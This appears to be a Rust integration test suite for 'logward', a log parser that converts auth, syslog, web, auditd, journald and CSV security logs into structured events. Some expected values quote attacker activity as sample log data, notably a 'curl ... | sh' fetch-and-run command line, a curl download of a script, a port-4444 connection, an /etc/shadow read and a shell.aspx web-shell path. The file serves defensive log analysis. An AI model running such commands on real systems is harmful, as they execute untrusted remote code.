//! `logward parse` on the project's own testdata, checked against expected files
//! (regenerate with LOGWARD_BLESS=1 after checking the difference by eye).

mod common;
use common::*;
use serde_json::Value;

fn run_case(name: &str, args: &[&str], files: &[&str]) -> Vec<Value> {
    let mut cmd = logward();
    cmd.current_dir(root().join("testdata/parse")).arg("parse").args(args).args(files);
    let out = cmd.output().unwrap();
    assert!(out.status.success(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
    assert_matches_file(&out.stdout, &root().join(format!("testdata/parse/expected/{name}.ndjson")));
    let lines: u64 = files
        .iter()
        .map(|f| std::fs::read_to_string(root().join("testdata/parse").join(f)).unwrap().lines().count() as u64)
        .sum();
    assert_accounted(&out.stderr, lines);
    ndjson(&out.stdout)
}

fn get<'a>(v: &'a Value, path: &str) -> &'a Value {
    path.split('.').fold(v, |v, k| &v[k])
}

#[test]
fn auth_log_every_message_kind() {
    let evs = run_case("auth", &["--year", "2023"], &["auth.log"]);
    assert_eq!(evs.len(), 35);
    let actions: Vec<&str> = evs.iter().map(|e| get(e, "event.action").as_str().unwrap_or("-")).collect();
    assert_eq!(
        actions,
        [
            "ssh_login",
            "ssh_login",
            "ssh_login",
            "ssh_login",
            "ssh_login",
            "invalid_user",
            "invalid_user",
            "ssh_connection_closed",
            "ssh_disconnected",
            "ssh_disconnected",
            "ssh_no_identification",
            "possible_break_in_attempt",
            "possible_break_in_attempt",
            "max_auth_attempts_exceeded",
            "authentication_failure",
            "authentication_failure",
            "session_opened",
            "sudo_command",
            "sudo_failure",
            "sudo_not_in_sudoers",
            "authentication_failure",
            "su",
            "su",
            "session_opened",
            "user_created",
            "group_created",
            "user_added_to_group",
            "user_deleted",
            "password_changed",
            "session_opened",
            "cron_command",
            "session_closed",
            "session_started",
            "session_removed",
            "-"
        ]
    );
    // IPv6 sources, the rollover from Dec 31 2023 into Jan 1 2024, and an invalid user.
    assert_eq!(get(&evs[1], "source.ip"), "2001:db8:85a3::8a2e:370:7334");
    assert_eq!(get(&evs[4], "source.ip"), "fe80::1ff:fe23:4567:890a");
    assert_eq!(get(&evs[20], "@timestamp"), "2023-12-31T23:59:03Z");
    assert_eq!(get(&evs[21], "@timestamp"), "2024-01-01T00:00:01Z");
    assert_eq!(get(&evs[3], "user.name"), "oracle");
    assert_eq!(get(&evs[3], "logward.auth.invalid_user"), true);
    assert_eq!(get(&evs[9], "source.port"), 5556);
    assert_eq!(get(&evs[19], "user.effective.name"), "root");
    assert_eq!(get(&evs[34], "event.dataset"), "system.syslog");
    for e in &evs[..34] {
        assert_eq!(get(e, "event.dataset"), "system.auth");
        assert_eq!(get(e, "log.file.path"), "auth.log");
        assert!(get(e, "event.original").is_string());
    }
}

#[test]
fn syslog_5424_and_iso() {
    let evs = run_case("syslog", &["--year", "2023"], &["syslog.log"]);
    assert_eq!(get(&evs[1], "@timestamp"), "2023-08-24T12:14:15.000003Z");
    assert_eq!(get(&evs[1], "log.syslog.structured_data.exampleSDID@32473.iut"), "3");
    assert_eq!(get(&evs[2], "@timestamp"), "2023-08-14T12:30:02.203151Z");
    assert_eq!(get(&evs[4], "log.syslog.priority"), 13);
}

#[test]
fn tz_applies_to_zoneless_timestamps_only() {
    let out = logward()
        .current_dir(root().join("testdata/parse"))
        .args(["parse", "--year", "2023", "--tz", "Europe/Berlin", "syslog.log"])
        .output()
        .unwrap();
    let evs: Vec<Value> = ndjson(&out.stdout);
    assert_eq!(get(&evs[2], "@timestamp"), "2023-08-14T12:30:02.203151Z"); // had +02:00
    assert_eq!(get(&evs[3], "@timestamp"), "2023-08-14T12:30:03.5Z"); // zone-less, CEST
    assert_eq!(get(&evs[4], "@timestamp"), "2023-08-14T12:31:00Z"); // BSD, CEST
}

#[test]
fn web_access_variants() {
    let evs = run_case("access", &[], &["access.log"]);
    assert_eq!(get(&evs[0], "@timestamp"), "2023-10-10T20:55:36Z");
    assert_eq!(get(&evs[1], "url.query"), "next=%2Fadmin");
    assert_eq!(get(&evs[1], "user.name"), "alice");
    assert_eq!(get(&evs[1], "event.outcome"), "failure");
    assert_eq!(get(&evs[2], "source.ip"), "2001:db8::17");
    assert_eq!(get(&evs[3], "destination.domain"), "shop.example.com");
    assert_eq!(get(&evs[3], "user_agent.original"), "sqlmap/1.7");
    assert_eq!(get(&evs[4], "source.ip"), "10.0.0.2");
    assert_eq!(get(&evs[5], "http.response.status_code"), 408);
    for e in &evs {
        assert_eq!(get(e, "event.dataset"), "apache.access");
    }
}

#[test]
fn iis_w3c_with_changing_fields() {
    let evs = run_case("iis", &[], &["iis.log"]);
    assert_eq!(evs.len(), 3);
    assert_eq!(get(&evs[1], "user.name"), "CORP\\jdoe");
    assert_eq!(get(&evs[2], "url.path"), "/aspnet_client/shell.aspx");
    assert_eq!(get(&evs[2], "source.ip"), "198.51.100.99");
}

#[test]
fn json_lines_pass_through_nested() {
    let evs = run_case("json", &[], &["events.json"]);
    assert_eq!(evs[0]["source"]["ip"], "203.0.113.5");
    assert_eq!(evs[0]["event"]["outcome"], "failure");
    assert_eq!(evs[0]["@timestamp"], "2023-05-01T10:00:00Z");
    assert_eq!(evs[2]["message"], "no timestamp here");
}

#[test]
fn csv_exports_become_ecs_events() {
    let evs = run_case(
        "csv",
        &[],
        &["process_events.csv", "network_events.csv", "file_events.csv", "registry_events.csv", "logins.csv"],
    );
    let cats: Vec<&str> = evs.iter().map(|e| get(e, "event.category")[0].as_str().unwrap()).collect();
    assert_eq!(
        cats,
        [
            "process",
            "process",
            "process",
            "process",
            "network",
            "network",
            "file",
            "file",
            "registry",
            "authentication",
            "authentication"
        ]
    );
    assert_eq!(get(&evs[1], "process.command_line"), "/bin/bash -c \"curl -s http://198.51.100.7/a | sh\"");
    assert_eq!(get(&evs[1], "process.parent.pid"), 100);
    assert_eq!(get(&evs[3], "event.type")[0], "end");
    assert_eq!(get(&evs[5], "destination.port"), 4444);
    assert_eq!(get(&evs[8], "registry.path"), "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    assert_eq!(get(&evs[9], "event.outcome"), "failure");
    assert_eq!(get(&evs[10], "event.outcome"), "success");
    assert_eq!(get(&evs[10], "user.id"), "u1001");
}

#[test]
fn csv_map_flag_and_unmapped_columns() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("x.csv");
    std::fs::write(&f, "pid,proc_cmd,colour\n7,/bin/true,blue\n").unwrap();
    let out = logward().args(["parse", "--map", "proc_cmd=process.command_line"]).arg(&f).output().unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["process"]["command_line"], "/bin/true");
    assert_eq!(v["logward"]["csv"]["colour"], "blue");
    assert_eq!(v["process"]["pid"], 7);
}

#[test]
fn custom_line_format_and_unknown_text() {
    let evs = run_case("hdfs", &["--line-format", "<Date> <Time> <Pid> <Level> <Component>: <Content>"], &["hdfs.log"]);
    assert_eq!(evs.len(), 2);
    assert_eq!(get(&evs[0], "message"), "PacketResponder 1 for block blk_38865049064139660 terminating");
    assert_eq!(get(&evs[0], "@timestamp"), "2008-11-09T20:36:15Z");
    let evs = run_case("text", &[], &["unknown.txt"]);
    assert_eq!(get(&evs[0], "@timestamp"), "2023-03-04T05:06:07.890Z");
    // In a file whose lines start with a time, a line without one continues the one before
    // (a Java stack trace's lines): it takes that line's time and is tagged.
    assert_eq!(get(&evs[1], "@timestamp"), "2023-03-04T05:06:07.890Z");
    assert_eq!(evs[1]["tags"][0], "continuation");
    assert_eq!(get(&evs[1], "event.dataset"), "logward.text");
}

#[test]
fn continuation_lines_take_their_message_time() {
    let dir = tempfile::tempdir().unwrap();
    let sys = dir.path().join("system.log");
    std::fs::write(&sys, "Dec 13 11:35:28 mac agent[1]: start of a long message\n\tsecond line\n\t\tthird line\nDec 13 11:35:29 mac agent[1]: next\nApr 4 03:39:57 --- last message repeated 1 time ---\n").unwrap();
    let out = logward().args(["parse", "--year", "2016"]).arg(&sys).output().unwrap();
    let e = ndjson(&out.stdout);
    assert_eq!(e[1]["@timestamp"], "2016-12-13T11:35:28Z");
    assert_eq!(e[2]["@timestamp"], "2016-12-13T11:35:28Z");
    assert_eq!(e[2]["tags"][0], "continuation");
    assert_eq!(e[2]["message"], "third line");
    assert!(e[3].get("tags").is_none());
    assert_eq!(e[4]["@timestamp"], "2017-04-04T03:39:57Z"); // after December: the next year
    let nginx = dir.path().join("nginx-error.log");
    std::fs::write(&nginx, "2019/10/30 23:26:34 [error] 1#1: *5 FastCGI sent in stderr: \"PHP message: x\nPHP message: PHP Warning: y\n2019/10/30 23:27:00 [error] 1#1: done\n").unwrap();
    let out = logward().arg("parse").arg(&nginx).output().unwrap();
    let e = ndjson(&out.stdout);
    assert_eq!(e[1]["event"]["dataset"], "nginx.error");
    assert_eq!(e[1]["@timestamp"], "2019-10-30T23:26:34Z");
    assert_eq!(e[1]["tags"][0], "continuation");
}

/// Every registered format's examples: each line gives the fields the format documents,
/// and a file of it is detected as that format (unless the format is only chosen by name).
#[test]
fn every_registered_format_parses_and_detects_its_examples() {
    use logward::parse::format::{Detect, REGISTRY};
    let dir = tempfile::tempdir().unwrap();
    for format in REGISTRY {
        assert!(!format.examples().is_empty(), "{}: no examples", format.name());
        for (n, ex) in format.examples().iter().enumerate() {
            let file = dir.path().join(format!("{}-{n}.log", format.name()));
            let mut text = ex.before.join("\n");
            if !text.is_empty() {
                text.push('\n');
            }
            text.push_str(ex.line);
            text.push('\n');
            std::fs::write(&file, text).unwrap();
            let run = |forced: bool| {
                let mut cmd = logward();
                cmd.args(["parse", "-q"]).args(ex.args);
                if forced {
                    cmd.args(["--format", format.name()]);
                }
                let out = cmd.arg(&file).output().unwrap();
                assert!(out.status.success(), "{}: {}", format.name(), String::from_utf8_lossy(&out.stderr));
                out.stdout
            };
            let forced = run(true);
            let events = ndjson(&forced);
            let ev = events.last().unwrap_or_else(|| panic!("{}: no event for {}", format.name(), ex.line));
            for (path, want) in ex.fields {
                let got =
                    logward::event::get(ev, path).unwrap_or_else(|| panic!("{}: no {path} in {ev}", format.name()));
                let got = got.as_str().map(str::to_string).unwrap_or_else(|| got.to_string());
                assert_eq!(&got, want, "{}: {path} of {}", format.name(), ex.line);
            }
            if format.detect() != Detect::Named || std::ptr::eq(*format, logward::parse::format::fallback()) {
                assert_eq!(
                    run(false),
                    forced,
                    "{}: a file of {} is detected as another format",
                    format.name(),
                    ex.line
                );
            }
        }
    }
}

/// Runs `parse` with `args` on testdata files and returns the events and stderr (checked
/// against the expected file and for line accounting like `run_case`).
fn run_case_err(name: &str, args: &[&str], files: &[&str]) -> (Vec<Value>, String) {
    let out =
        logward().current_dir(root().join("testdata/parse")).arg("parse").args(args).args(files).output().unwrap();
    assert!(out.status.success(), "{name}: {}", String::from_utf8_lossy(&out.stderr));
    assert_matches_file(&out.stdout, &root().join(format!("testdata/parse/expected/{name}.ndjson")));
    let lines: u64 = files
        .iter()
        .map(|f| std::fs::read_to_string(root().join("testdata/parse").join(f)).unwrap().lines().count() as u64)
        .sum();
    assert_accounted(&out.stderr, lines);
    (ndjson(&out.stdout), String::from_utf8_lossy(&out.stderr).into_owned())
}

#[test]
fn audit_records_of_one_event_become_one_event() {
    let (evs, err) = run_case_err("audit", &[], &["audit.log"]);
    // 24 records → 8 events, the line that is no record rejected.
    assert!(err.contains("read 25 lines, emitted 8 events (24 lines merged into 8), rejected 1"), "{err}");
    assert!(err.contains("audit.log:25: rejected: not an audit record"), "{err}");
    assert_eq!(evs.len(), 8);
    let exec = &evs[0];
    assert_eq!(get(exec, "logward.lines"), &serde_json::json!([1, 2, 3, 4, 5, 6, 7]));
    assert_eq!(get(exec, "event.action"), "executed");
    assert_eq!(get(exec, "event.type")[0], "start");
    assert_eq!(get(exec, "user.name"), "alice", "UID= of the enriched record");
    assert_eq!(get(exec, "user.audit.name"), "alice");
    assert_eq!(
        get(exec, "auditd.log.record_type"),
        &serde_json::json!(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"])
    );
    assert_eq!(get(exec, "auditd.log.name"), &serde_json::json!(["/usr/bin/bash", "/lib64/ld-linux-x86-64.so.2"]));
    assert_eq!(get(exec, "file.path"), "/usr/bin/bash");
    // The user-space record between the next event's records is its own event, in order.
    assert_eq!(get(&evs[1], "event.action"), "logged-in");
    assert_eq!(get(&evs[1], "event.outcome"), "failure");
    assert_eq!(get(&evs[1], "source.ip"), "203.0.113.50");
    assert_eq!(get(&evs[1], "user.name"), "root");
    // Hex arguments decoded, a long argument joined from its pieces, the parent known.
    let curl = &evs[2];
    assert_eq!(
        get(curl, "process.args"),
        &serde_json::json!(["curl", "-o", "/tmp/my file.sh", "http://203.0.113.5/x.sh"])
    );
    assert_eq!(get(curl, "process.command_line"), "curl -o /tmp/my file.sh http://203.0.113.5/x.sh");
    assert_eq!(get(curl, "process.title"), "curl -o /tmp/my file.sh http://203.0.113.5/x.sh");
    assert_eq!(get(curl, "process.parent.executable"), "/usr/bin/bash");
    assert_eq!(
        get(curl, "auditd.log.a3"),
        &serde_json::json!(["0", "http://203.0.113.5/x.sh"]),
        "SYSCALL a3 and the joined argument"
    );
    // saddr → destination; a relative path joined with the working directory.
    assert_eq!(
        (get(&evs[3], "destination.ip"), get(&evs[3], "destination.port")),
        (&"203.0.113.5".into(), &443.into())
    );
    assert_eq!(get(&evs[3], "event.action"), "connected-to");
    assert_eq!(get(&evs[3], "network.direction"), "egress");
    assert_eq!(get(&evs[4], "file.path"), "/etc/shadow");
    assert_eq!(get(&evs[4], "auditd.log.SYSCALL"), "openat");
    assert_eq!(get(&evs[4], "event.outcome"), "failure");
    assert_eq!(get(&evs[5], "user.target.id"), "1005");
    assert_eq!(get(&evs[6], "auditd.log.avc.request"), "write");
    assert_eq!(get(&evs[7], "auditd.log.new_auid"), "1000");
    for e in &evs {
        assert_eq!(get(e, "event.dataset"), "auditd.log");
        assert_eq!(get(e, "event.module"), "auditd");
    }
}

#[test]
fn journald_entries_read_like_their_syslog_lines() {
    let (evs, err) = run_case_err("journald", &[], &["journal.json"]);
    assert!(err.contains("journal.json: read as journald"), "{err}");
    assert_eq!(get(&evs[0], "@timestamp"), "2023-11-14T22:13:20.123456Z");
    assert_eq!(get(&evs[0], "event.action"), "ssh_login");
    assert_eq!(get(&evs[0], "user.name"), "admin");
    assert_eq!(get(&evs[0], "systemd.unit"), "ssh.service");
    // _UID is sshd's own (root), not the user the message names.
    assert_eq!(get(&evs[0], "process.user.id"), "0");
    assert!(get(&evs[0], "user.id").is_null());
    assert_eq!(get(&evs[1], "event.outcome"), "success");
    assert_eq!(get(&evs[2], "event.action"), "sudo_command");
    assert_eq!(get(&evs[2], "user.effective.name"), "root");
    // MESSAGE as an array of bytes (not UTF-8), decoded lossily.
    assert_eq!(get(&evs[3], "event.action"), "invalid_user");
    assert_eq!(get(&evs[3], "source.ip"), "203.0.113.8");
    assert_eq!(get(&evs[4], "event.dataset"), "iptables.log");
    assert_eq!(get(&evs[4], "destination.port"), 3389);
    // The audit transport: an audit record, merged like audit.log's.
    assert_eq!(get(&evs[5], "event.dataset"), "auditd.log");
    assert_eq!(get(&evs[5], "auditd.log.sequence"), 7731);
    assert_eq!(get(&evs[5], "event.outcome"), "failure");
    assert_eq!(get(&evs[6], "journald.custom.code_file"), "src/core/unit.c");
    // The same sshd line from auth.log gives the same fields.
    let dir = tempfile::tempdir().unwrap();
    let auth = dir.path().join("auth.log");
    std::fs::write(
        &auth,
        "Nov 14 22:13:20 bastion sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52413 ssh2\n",
    )
    .unwrap();
    let out = logward().args(["parse", "--year", "2023"]).arg(&auth).output().unwrap();
    let syslog = &ndjson(&out.stdout)[0];
    for f in [
        "event.action",
        "event.outcome",
        "event.category",
        "user.name",
        "source.ip",
        "source.port",
        "process.name",
        "process.pid",
        "host.name",
        "event.dataset",
        "logward.template.pattern",
    ] {
        assert_eq!(get(syslog, f), get(&evs[0], f), "{f}");
    }
}

#[test]
fn kernel_firewall_lines() {
    let (evs, _) = run_case_err("kern", &["--year", "2024"], &["kern.log"]);
    assert_eq!(get(&evs[0], "event.action"), "block");
    assert_eq!(get(&evs[0], "observer.ingress.interface.name"), "eth0");
    assert_eq!(get(&evs[0], "network.direction"), "ingress");
    assert_eq!(get(&evs[0], "iptables.tcp.flags"), &serde_json::json!(["SYN"]));
    assert_eq!(get(&evs[1], "event.action"), "allow");
    assert_eq!(get(&evs[2], "event.action"), "block");
    assert_eq!(get(&evs[2], "network.transport"), "udp");
    assert_eq!(get(&evs[2], "observer.egress.interface.name"), "eth0");
    assert_eq!(get(&evs[3], "network.type"), "ipv6");
    assert_eq!(get(&evs[3], "network.transport"), "ipv6-icmp");
    assert_eq!(get(&evs[3], "event.action"), "audit");
    assert_eq!(get(&evs[4], "logward.netfilter.prefix"), "nftables drop");
    assert_eq!(get(&evs[4], "iptables.tcp.flags"), &serde_json::json!(["RST"]));
    // The kernel's AppArmor audit line is an audit event; an ordinary kernel line is syslog.
    assert_eq!(get(&evs[5], "event.action"), "violated-apparmor-policy");
    assert_eq!(get(&evs[5], "event.outcome"), "failure");
    assert_eq!(get(&evs[6], "event.dataset"), "system.syslog");
    let (evs, err) = run_case_err("dmesg", &[], &["dmesg.txt"]);
    assert!(err.contains("dmesg.txt: read as netfilter"), "{err}");
    assert!(evs[0].get("@timestamp").is_none(), "seconds since boot are no time");
    assert_eq!(get(&evs[1], "@timestamp"), "2024-03-05T10:00:02Z");
    assert_eq!(get(&evs[1], "destination.port"), 23);
    assert_eq!(get(&evs[2], "event.dataset"), "logward.text");
}

#[test]
fn repeated_messages_carry_their_message_and_count() {
    let (evs, _) = run_case_err("repeated", &["--year", "2023"], &["repeated.log"]);
    assert!(evs[0].get("logward").and_then(|l| l.get("repeat")).is_none());
    for (i, n) in [(1, 5), (3, 2), (5, 1)] {
        assert_eq!(get(&evs[i], "logward.repeat.count"), n, "event {i}");
    }
    // rsyslog's form carries the message; the sysklogd form repeats the line before.
    assert_eq!(get(&evs[1], "message"), "Failed password for root from 203.0.113.76 port 42393 ssh2");
    assert_eq!(get(&evs[1], "user.name"), "root");
    assert_eq!(get(&evs[1], "event.outcome"), "failure");
    assert_eq!(get(&evs[1], "logward.template.id"), get(&evs[0], "logward.template.id"));
    assert_eq!(get(&evs[3], "user.name"), "oracle");
    assert_eq!(get(&evs[3], "@timestamp"), "2023-12-10T07:14:02Z");
    assert_eq!(get(&evs[3], "source.ip"), "203.0.113.76");
    assert_eq!(get(&evs[5], "event.action"), "authentication_failure");
    assert_eq!(get(&evs[5], "event.original"), "Dec 10 07:14:09 gate --- last message repeated 1 time ---");
}

#[test]
fn logs_nobody_described() {
    let (evs, err) = run_case_err("unknown-prefixed", &[], &["unknown/prefixed-syslog.log"]);
    assert!(err.contains("prefixed-syslog.log: read as syslog"), "{err}");
    assert_eq!(get(&evs[0], "@timestamp"), "2005-11-09T12:01:01Z", "the year from the prefix's date");
    assert_eq!(get(&evs[0], "event.action"), "ssh_login");
    assert_eq!(get(&evs[1], "user.name"), "test");
    assert_eq!(get(&evs[0], "logward.syslog.prefix"), "- 1131566461 2005.11.09 node17");
    assert_eq!(get(&evs[2], "event.action"), "session_opened");
    // Times in other forms, and epoch columns learned from the file's first lines.
    for (file, first) in [
        ("app-compact.log", "2017-12-23T22:15:29.606Z"),
        ("proxy.log", "2016-10-30T16:49:06Z"),
        ("openstack.log", "2017-05-16T00:00:00.008Z"),
        ("epoch-column.log", "2004-02-26T14:12:22Z"),
    ] {
        let out = logward()
            .current_dir(root().join("testdata/parse/unknown"))
            .args(["parse", "--year", "2016", file])
            .output()
            .unwrap();
        let evs = ndjson(&out.stdout);
        assert_eq!(get(&evs[0], "@timestamp"), first, "{file}");
        assert!(evs.iter().all(|e| e.get("@timestamp").is_some()), "{file}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains(&format!("{file}: no known format in its first lines, read as plain text; times")),
            "{err}"
        );
        assert!(err.contains("--line-format"), "{err}");
    }
    // A Java stack trace under a timed line continues it; a file with no times has no
    // continuations.
    let dir = tempfile::tempdir().unwrap();
    let java = dir.path().join("app.log");
    std::fs::write(
        &java,
        "2024-03-05 10:00:00,001 INFO [main] start\n2024-03-05 10:00:01,002 ERROR [main] failed\njava.lang.IllegalStateException: boom\nat com.example.App.run(App.java:42)\n2024-03-05 10:00:02,003 INFO [main] retry\n",
    )
    .unwrap();
    let evs = ndjson(&logward().arg("parse").arg(&java).output().unwrap().stdout);
    assert_eq!(evs.len(), 5);
    for e in &evs[2..4] {
        assert_eq!(get(e, "@timestamp"), "2024-03-05T10:00:01.002Z");
        assert_eq!(e["tags"][0], "continuation");
    }
    assert!(evs[4].get("tags").is_none());
    let out =
        logward().current_dir(root().join("testdata/parse/unknown")).args(["parse", "no-time.log"]).output().unwrap();
    assert!(ndjson(&out.stdout).iter().all(|e| e.get("tags").is_none() && e.get("@timestamp").is_none()));
}

#[test]
fn stderr_names_formats_warns_on_plain_text_and_notes_the_year_once() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.log");
    let b = dir.path().join("b.log");
    let mostly_text = dir.path().join("c.log");
    std::fs::write(&a, "Feb  9 21:19:40 h sshd[1]: Accepted password for x from 192.0.2.1 port 1 ssh2\n").unwrap();
    std::fs::write(&b, "Feb  9 21:19:41 h sshd[1]: Accepted password for y from 192.0.2.1 port 1 ssh2\n").unwrap();
    std::fs::write(
        &mostly_text,
        "Feb  9 21:19:40 h sshd[1]: x\nFeb  9 21:19:41 h sshd[1]: y\nFeb  9 21:19:42 h sshd[1]: z\nplain a\nplain b\nplain c\nplain d\nplain e\n",
    )
    .unwrap();
    let out = logward().arg("parse").args([&a, &b, &mostly_text]).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("a.log: read as syslog") && err.contains("b.log: read as syslog"), "{err}");
    assert_eq!(err.matches("its dates have no year").count(), 1, "{err}");
    assert!(err.contains("c.log: 5 of 8 lines are not syslog and were kept as plain text"), "{err}");
    let tagged = ndjson(&out.stdout).iter().filter(|e| e.get("tags").is_some_and(|t| t[0] == "not_parsed")).count();
    assert_eq!(tagged, 5);
    // --year, --quiet: nothing of the kind.
    let out = logward().args(["parse", "--year", "2020"]).arg(&a).output().unwrap();
    assert!(!String::from_utf8_lossy(&out.stderr).contains("no year"));
    let out = logward().args(["parse", "-q"]).arg(&mostly_text).output().unwrap();
    assert!(out.stderr.is_empty(), "{}", String::from_utf8_lossy(&out.stderr));
    // --format syslog: lines that are not syslog are rejected, not emitted empty.
    let out = logward().args(["parse", "--format", "syslog", "--year", "2020"]).arg(&mostly_text).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(ndjson(&out.stdout).len(), 3);
    assert!(err.contains("c.log:4: rejected: not a syslog line"), "{err}");
    assert!(err.contains("rejected 5"), "{err}");
    let out = logward()
        .args(["parse", "--format", "syslog", "--strict", "--year", "2020"])
        .arg(&mostly_text)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
}

#[test]
fn ausearch_output_separators_are_skipped_and_interpreted_records_explained() {
    let dir = tempfile::tempdir().unwrap();
    let raw = dir.path().join("raw.txt");
    std::fs::write(
        &raw,
        "----\ntype=SYSCALL msg=audit(1700000000.100:501): arch=c000003e syscall=59 success=yes exit=0 pid=1 comm=\"x\"\ntype=EOE msg=audit(1700000000.100:501): \n----\n",
    )
    .unwrap();
    let out = logward().arg("parse").arg(&raw).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("raw.txt: read as auditd"), "{err}");
    assert_eq!(assert_accounted(&out.stderr, 4), (4, 1, 0, 2));
    assert_eq!(ndjson(&out.stdout)[0]["auditd"]["log"]["SYSCALL"], "execve");
    let interpreted = dir.path().join("interpreted.txt");
    std::fs::write(
        &interpreted,
        "----\ntype=SYSCALL msg=audit(03/05/2024 10:00:00.123:501) : arch=x86_64 syscall=execve success=yes exit=0 pid=1200 uid=alice comm=bash\n",
    )
    .unwrap();
    let out = logward().arg("parse").arg(&interpreted).output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("interpreted.txt:2: rejected: an interpreted record (ausearch -i"), "{err}");
    assert!(err.contains("ausearch --raw"), "{err}");
    assert!(out.stdout.is_empty());
}
